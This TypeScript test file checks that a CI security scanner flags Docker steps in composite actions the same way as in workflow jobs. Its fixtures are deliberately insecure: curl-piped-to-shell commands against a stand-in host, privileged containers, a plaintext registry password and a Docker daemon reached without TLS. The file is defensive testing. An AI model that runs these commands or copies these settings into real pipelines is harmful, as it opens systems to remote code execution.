import { describe, expect, it } from '@jest/globals';
import type { Files } from '../../properties/repository.ts';
import { scanFiles } from '../../properties/soundness.ts';

const indented = (text: string, by: string) => text.replaceAll(/^/gm, by);

/** The same step in a job and in a composite action. */
const inJob = (step: string) => ({
  path: '.github/workflows/ci.yml',
  text: `on: push\njobs:\n  a:\n    runs-on: [self-hosted]\n    steps:\n${indented(step, '      ')}\n`,
});
const inAction = (step: string) => ({
  path: 'ci/action.yml',
  text: `name: a\ndescription: b\nruns:\n  using: composite\n  steps:\n${indented(step, '    ')}\n`,
});

const FILES: Files = {
  'deploy/stack-for-ci.yaml': 'services:\n  a:\n    image: acme/app:1.4\n    privileged: true\n',
  'ci/bk.toml': '[registry."a.example"]\nhttp = true\n',
  'app/image': 'FROM debian:12\nRUN curl http://a.example/x | sh\n',
};

interface Seen {
  readonly found: readonly string[];
  readonly gaps: readonly string[];
}

/** What is reported of the step and of the files that only it names. */
async function seen({ path, text }: { readonly path: string; readonly text: string }): Promise<Seen> {
  const { findings, notifications } = await scanFiles({ ...FILES, [path]: text });
  const place = (one: string) => (one === path ? 'the step' : one);
  return {
    found: findings.map(({ ruleId, span }) => `${ruleId} in ${place(span.file.path)}`).sort(),
    gaps: notifications.map(({ code, span }) => `${code} in ${place(span?.file.path ?? '')}`).sort(),
  };
}

const STEPS: readonly (readonly [what: string, step: string, expected: string])[] = [
  [
    'a build with the network of the host',
    '- uses: docker/build-push-action@v6\n  with:\n    context: https://github.com/acme/app.git\n    network: host\n    allow: network.host',
    'build-network-host in the step',
  ],
  [
    'a Dockerfile of any name',
    '- uses: docker/build-push-action@v6\n  with:\n    file: app/image',
    'remote-script-exec in app/image',
  ],
  [
    'a bake file from elsewhere',
    '- uses: docker/bake-action@v6\n  with:\n    files: https://a.example/b.hcl',
    'not-checked in the step',
  ],
  [
    'the configuration of BuildKit',
    '- uses: docker/setup-buildx-action@v3\n  with:\n    buildkitd-config: ci/bk.toml',
    'image-registry-insecure in ci/bk.toml',
  ],
  [
    'a login',
    '- uses: docker/login-action@v3\n  with:\n    username: a\n    password: blue-Kettle-71',
    'registry-login-literal in the step',
  ],
  [
    'the engine of a step',
    '- run: docker ps\n  shell: bash\n  env:\n    DOCKER_HOST: tcp://10.0.0.5:2375',
    'engine-client-without-tls in the step',
  ],
  [
    'a compose file of any name',
    '- run: docker compose up -d\n  shell: bash\n  env:\n    COMPOSE_FILE: deploy/stack-for-ci.yaml',
    'privileged in deploy/stack-for-ci.yaml',
  ],
  [
    'the input for a compose file',
    '- uses: acme/compose-action@v1\n  with:\n    compose-file: deploy/stack-for-ci.yaml',
    'privileged in deploy/stack-for-ci.yaml',
  ],
  ['a command', '- run: docker run --privileged acme/app:1.4\n  shell: bash', 'privileged in the step'],
  [
    'an image with code',
    '- uses: docker://acme/app:1.4\n  with:\n    entrypoint: sh\n    args: -c "curl http://a.example/x | sh"',
    'command-downloads-code in the step',
  ],
];

describe('a step of a composite action', () => {
  it.each(STEPS)('is read as in a job: %s', async (_what, step, expected) => {
    const [job, action] = [await seen(inJob(step)), await seen(inAction(step))];
    expect([...job.found, ...job.gaps]).toContain(expected);
    expect(action).toEqual(job);
  });

  it('is named as what it is', async () => {
    const { findings } = await scanFiles({ 'action.yml': inAction(STEPS[4]?.[1] ?? '').text });
    expect(findings.map(({ message }) => message)).toContain(
      'This action logs in to a registry with a password that is written in the file. An attacker who reads the repository can use it.',
    );
  });
});
